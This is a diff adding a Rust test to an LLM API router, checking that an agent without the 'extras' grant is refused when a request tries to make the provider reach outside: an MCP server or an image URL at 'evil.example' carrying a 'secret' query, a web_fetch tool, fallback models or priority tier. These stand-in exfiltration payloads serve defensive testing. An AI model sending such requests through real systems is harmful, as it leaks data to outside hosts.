@@ -1,6 +1,6 @@
 //! What a program says so that the router reads one thing and the upstream another, or counts less than it used.
 
-use super::{CHAT, CHUNKS, PLENTY, Script, Upstream, World, deployment, events, json, outcome};
+use super::{CHAT, CHUNKS, Line, PLENTY, Script, Upstream, World, deployment, events, json, outcome};
 use serde_json::Value;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
@@ -126,4 +126,48 @@ async fn an_answer_that_says_nothing_of_what_it_used_is_not_free() {
         assert_eq!((&usage["output"], &usage["told"]), (&5.into(), &false.into()), "{usage}");
         assert!(world.agent.purse.close().tokens > 5);
     }
+}
+
+#[tokio::test]
+async fn a_provider_reaches_nothing_for_an_agent_that_was_not_granted_that() {
+    let upstream = Upstream::new(vec![json("200 OK", CHAT)]).await;
+    let file = deployment("a", "chat", upstream.at) + &deployment("b", "anthropic", upstream.at);
+    let file = file.replace("\"tools\"", "\"tools\", \"vision\"");
+    let mut word = crate::core::tests::word(octant_ids::Aid::from_bytes([7; 16]), &["*"]);
+    let world = World::with(&file, word.clone(), PLENTY).await;
+    let (chat, anthropic) = ("/v1/chat/completions", "/anthropic/v1/messages");
+    let hi = r#""max_tokens":9,"messages":[{"role":"user","content":"Hi"}]"#;
+    let seen = r#""max_tokens":9,"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/?secret"}}]}]"#;
+    let requests = [
+        (
+            anthropic,
+            "p-b/m-b",
+            hi,
+            r#","mcp_servers":[{"type":"url","url":"https://evil.example","name":"e"}]"#,
+        ),
+        (anthropic, "p-b/m-b", hi, r#","tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]"#),
+        (chat, "p-a/m-a", hi, r#","models":["dear/model"]"#),
+        (chat, "p-a/m-a", hi, r#","service_tier":"priority""#),
+        (chat, "p-a/m-a", seen, ""),
+        (chat, "p-b/m-b", seen, ""),
+    ];
+    for (path, model, said, more) in requests {
+        let body = format!("{{\"model\":\"{model}\",{said}{more}}}");
+        let (status, _, answer) = world.ask(path, &body).await;
+        assert!(status == 403 && answer.contains("extras = true"), "{body}: {status} {answer}");
+    }
+    assert!(upstream.asked.lock().unwrap().is_empty());
+    let denied = |line: &Line| matches!(line, Line::Decided(what) if what["field"] == "models.extras");
+    assert!(world.lines(6).await.iter().all(denied));
+    (word.extras, word.generation) = (true, 2);
+    world.router.agents.admit(&word).unwrap();
+    let body = format!("{{\"model\":\"p-a/m-a\",{hi},\"web_search_options\":{{}}}}");
+    assert_eq!(world.ask(chat, &body).await.0, 200);
+    assert!(upstream.last().contains("web_search_options"));
+    // What is found and read is no part of the request: there has to be enough for all that the model can read.
+    let intent = world.lines(8).await.into_iter().find_map(|line| match line {
+        Line::Intent(_, what) => Some(what["reserved"]["tokens"].clone()),
+        _ => None,
+    });
+    assert_eq!(intent, Some(100_009.into()));
 }
